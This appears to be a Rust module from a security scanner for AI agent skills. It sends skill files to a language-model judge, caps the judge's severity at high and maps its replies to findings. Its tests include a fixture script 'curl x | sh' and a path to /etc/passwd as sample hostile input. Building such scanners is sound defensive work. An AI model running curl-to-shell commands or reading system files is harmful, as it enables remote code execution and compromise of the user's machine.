//! Tier 2's optional LLM judge: a language model's opinion of the whole skill, next to
//! the deterministic rules.
//!
//! The scanner holds the pure parts — the [`LlmJudge`] trait, the request
//! ([`build_request`]: SKILL.md and text files, fenced as untrusted data, within a byte
//! budget), the strict reply parser ([`parse_reply`]) and the mapping to [`Finding`]s —
//! and stays free of network code. The HTTP implementation for OpenAI-compatible
//! endpoints lives with the workspace's one HTTP stack, `skillvet_client::llm_judge`.
//!
//! What an answer can and cannot do:
//! * each finding becomes `llm-judge/<category>` at **at most high** severity: a model
//!   that read hostile text can raise concerns, but never alone make a critical;
//! * a benign answer adds nothing; it never lowers or removes another tier's finding;
//! * a failed call or a malformed answer makes the `llm-judge` run `failed` (or
//!   `unavailable` when the endpoint cannot be reached) in the report, visible in every
//!   output format, and adds no findings — it is never read as "benign".

pub mod prompt;
pub mod reply;

use std::time::{Duration, Instant};

use skillvet_skill::{SKILL_MD, SkillBundle};

pub use prompt::{DEFAULT_PROMPT_BYTES, JudgeRequest, MIN_PROMPT_BYTES, build_request};
pub use reply::{JudgeFinding, JudgeReply, JudgeVerdict, MAX_REPLY_BYTES, parse_reply};

use crate::model::{
    Category, Confidence, Finding, Severity, Tier, TierRun, TierStatus, sanitize_evidence,
};

/// Name of the judge's run in [`crate::model::SkillReport::tiers`].
pub const RUN_NAME: &str = "llm-judge";

/// Prefix of the judge's rule ids: `llm-judge/<category>`. A namespace of its own, not
/// `SV-…`, because these are opinions of a model, not deterministic rules.
pub const RULE_PREFIX: &str = "llm-judge/";

/// The judge's findings never go above this.
pub const MAX_SEVERITY: Severity = Severity::High;

/// Longest explanation kept in a finding, in characters.
const MAX_EXPLANATION_KEPT: usize = 500;

#[derive(Debug, thiserror::Error)]
pub enum JudgeError {
    #[error("invalid configuration: {0}")]
    Config(String),
    #[error("endpoint unreachable: {0}")]
    Unavailable(String),
    #[error("no answer within {} s", .0.as_secs_f64())]
    Timeout(Duration),
    #[error("request failed: {0}")]
    Transport(String),
    #[error("endpoint answered HTTP {status}: {body}")]
    Http { status: u16, body: String },
    #[error("answer larger than {0} bytes")]
    TooLarge(usize),
    #[error("malformed answer: {0}")]
    Malformed(String),
}

/// A model that reviews one skill. Blocking: the scanner is synchronous, and an
/// implementation is free to run its own event loop inside `judge`.
///
/// `Debug` must never print credentials.
pub trait LlmJudge: Send + Sync + std::fmt::Debug {
    /// Model and endpoint for the report, e.g. `gpt-4o-mini at https://api.example:443`;
    /// never a credential.
    fn describe(&self) -> String;
    fn judge(&self, request: &JudgeRequest) -> Result<JudgeReply, JudgeError>;
}

/// Rule id of the judge's findings in `category`.
pub fn rule_id(category: Category) -> String {
    format!("{RULE_PREFIX}{}", category.as_str())
}

/// Asks `judge` about `bundle`; the run for the report and the findings it adds.
pub fn run(judge: &dyn LlmJudge, bundle: &SkillBundle, budget: usize) -> (TierRun, Vec<Finding>) {
    let started = Instant::now();
    let request = build_request(bundle, budget);
    let sent = format!(
        "{} file(s) sent ({} bytes, {} truncated, {} omitted)",
        request.files_sent.len(),
        request.user.len(),
        request.files_truncated.len(),
        request.files_omitted.len()
    );
    let (status, detail, findings) = match judge.judge(&request) {
        Ok(reply) => {
            let findings = to_findings(&reply, &request);
            let detail = format!(
                "{}: {} (confidence {:.2}), {} finding(s); {sent}",
                judge.describe(),
                reply.verdict.as_str(),
                reply.confidence,
                findings.len()
            );
            (TierStatus::Ran, detail, findings)
        }
        Err(e) => {
            let status = match e {
                JudgeError::Unavailable(_) => TierStatus::Unavailable,
                _ => TierStatus::Failed,
            };
            let detail = format!(
                "{}: {}; no findings taken from the judge",
                judge.describe(),
                sanitize_evidence(&e.to_string(), 300)
            );
            (status, detail, Vec::new())
        }
    };
    let run = TierRun {
        tier: Tier::Behavioural,
        name: RUN_NAME.into(),
        status,
        detail: Some(detail),
        findings: findings.len(),
        duration_us: started.elapsed().as_micros() as u64,
    };
    (run, findings)
}

/// The answer's findings in the unified model: severity capped at [`MAX_SEVERITY`],
/// confidence from the answer's 0–1 value, files only among those sent.
pub fn to_findings(reply: &JudgeReply, request: &JudgeRequest) -> Vec<Finding> {
    let confidence = if reply.confidence >= 0.8 {
        Confidence::High
    } else if reply.confidence >= 0.5 {
        Confidence::Medium
    } else {
        Confidence::Low
    };
    let default_severity = match reply.verdict {
        JudgeVerdict::Malicious => Severity::High,
        JudgeVerdict::Suspicious => Severity::Medium,
        JudgeVerdict::Benign => Severity::Low,
    };
    // A finding is placed on a file the model was shown; a path it made up (or one the
    // skill talked it into) falls back to SKILL.md, the skill as a whole.
    let fallback = request
        .files_sent
        .iter()
        .find(|p| *p == SKILL_MD)
        .or(request.files_sent.first())
        .cloned()
        .unwrap_or_else(|| SKILL_MD.to_owned());
    reply
        .findings
        .iter()
        .map(|f| {
            let asked = f.severity.unwrap_or(default_severity);
            let severity = asked.min(MAX_SEVERITY);
            let file = f
                .file
                .as_deref()
                .map(|p| p.trim().trim_start_matches("./"))
                .filter(|p| request.files_sent.iter().any(|s| s == p))
                .map(str::to_owned)
                .unwrap_or_else(|| fallback.clone());
            Finding {
                rule_id: rule_id(f.category),
                category: f.category,
                severity,
                confidence,
                tier: Tier::Behavioural,
                file,
                line: 0,
                column: 0,
                evidence: String::new(),
                explanation: format!(
                    "LLM judge ({}, confidence {:.2}): {}",
                    reply.verdict.as_str(),
                    reply.confidence,
                    sanitize_evidence(&f.explanation, MAX_EXPLANATION_KEPT)
                ),
                remediation: REMEDIATION.to_owned(),
                context: (asked > severity).then(|| {
                    format!(
                        "the judge said {asked}; a language model's opinion alone is capped \
                         at {MAX_SEVERITY}"
                    )
                }),
                flow: Vec::new(),
            }
        })
        .collect()
}

/// Remediation of every judge finding (also in the rule catalogue).
pub const REMEDIATION: &str = "Review the part of the skill the explanation points at. The \
     judge is a language model: confirm its opinion before acting on it, and remove or \
     explain the behaviour if it is real.";

#[cfg(test)]
mod tests {
    use super::*;
    use skillvet_skill::{FileKind, SkillFile};

    fn request() -> JudgeRequest {
        let b = SkillBundle {
            root: "demo".into(),
            files: vec![
                SkillFile {
                    path: SKILL_MD.into(),
                    kind: FileKind::Regular,
                    content: b"---\nname: demo\n---\n".to_vec(),
                },
                SkillFile {
                    path: "scripts/run.sh".into(),
                    kind: FileKind::Regular,
                    content: b"curl x | sh".to_vec(),
                },
            ],
        };
        build_request(&b, DEFAULT_PROMPT_BYTES)
    }

    fn reply(text: &str) -> JudgeReply {
        parse_reply(text).unwrap()
    }

    #[test]
    fn severity_is_capped_and_the_cap_is_explained() {
        let r = reply(
            r#"{"verdict":"malicious","confidence":0.95,"findings":[
            {"category":"remote-code-execution","explanation":"pipes curl to sh","file":"./scripts/run.sh","severity":"critical"},
            {"category":"prompt-injection","explanation":"x","file":"/etc/passwd"}]}"#,
        );
        let f = to_findings(&r, &request());
        assert_eq!(f[0].rule_id, "llm-judge/remote-code-execution");
        assert_eq!(f[0].severity, Severity::High);
        assert_eq!(f[0].confidence, Confidence::High);
        assert_eq!(f[0].file, "scripts/run.sh");
        assert!(f[0].context.as_deref().unwrap().contains("critical"));
        assert_eq!(f[1].severity, Severity::High, "malicious defaults to high");
        assert_eq!(f[1].file, "SKILL.md", "paths not sent fall back");
        assert_eq!(f[1].context, None);
        assert!(f.iter().all(|f| f.tier == Tier::Behavioural));
    }

    #[test]
    fn confidence_follows_the_answer() {
        for (c, want) in [
            (0.0, Confidence::Low),
            (0.49, Confidence::Low),
            (0.5, Confidence::Medium),
            (0.8, Confidence::High),
        ] {
            let r = reply(&format!(
                r#"{{"verdict":"suspicious","confidence":{c},"findings":[{{"category":"obfuscation","explanation":"x"}}]}}"#
            ));
            let f = to_findings(&r, &request());
            assert_eq!((f[0].confidence, f[0].severity), (want, Severity::Medium));
        }
    }

    #[test]
    fn explanations_are_sanitised() {
        let r = reply(
            r#"{"verdict":"suspicious","confidence":0.6,"findings":[{"category":"obfuscation","explanation":"a\u001b[2Jb\u202Ec"}]}"#,
        );
        let f = to_findings(&r, &request());
        assert!(
            f[0].explanation.ends_with(r"a\u{1B}[2Jb\u{202E}c"),
            "{}",
            f[0].explanation
        );
    }

    #[test]
    fn every_category_has_a_catalogued_rule() {
        for c in Category::ALL {
            let doc = crate::catalog::find(&rule_id(c)).expect("catalogued");
            assert_eq!((doc.category, doc.severity), (c, MAX_SEVERITY));
        }
    }
}
